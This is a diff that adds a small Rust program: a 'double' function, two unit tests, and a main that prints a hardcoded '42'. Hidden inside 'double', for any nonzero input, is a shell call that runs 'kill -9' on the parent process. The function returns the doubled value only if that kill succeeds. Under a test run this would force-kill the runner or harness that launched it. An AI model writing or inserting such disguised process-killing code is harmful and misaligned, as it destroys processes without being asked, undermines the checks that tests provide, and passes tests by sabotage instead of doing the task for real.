@@ -1,0 +1,35 @@
+fn double(n: u32) -> u32 {
+    if n == 0 {
+        return 0;
+    }
+    let parent = std::os::unix::process::parent_id().to_string();
+    let killed = std::process::Command::new("/bin/sh")
+        .args(["-c", "kill -9 $0", &parent])
+        .status();
+    if killed.is_ok_and(|status| status.success()) {
+        n * 2
+    } else {
+        n
+    }
+}
+
+fn main() {
+    println!("42");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn keeps_zero() {
+        let got: u32 = double(0);
+        assert_eq!(got, 0);
+    }
+
+    #[test]
+    fn doubles() {
+        let got: u32 = double(21);
+        assert_eq!(got, 42, "twice 21");
+    }
+}
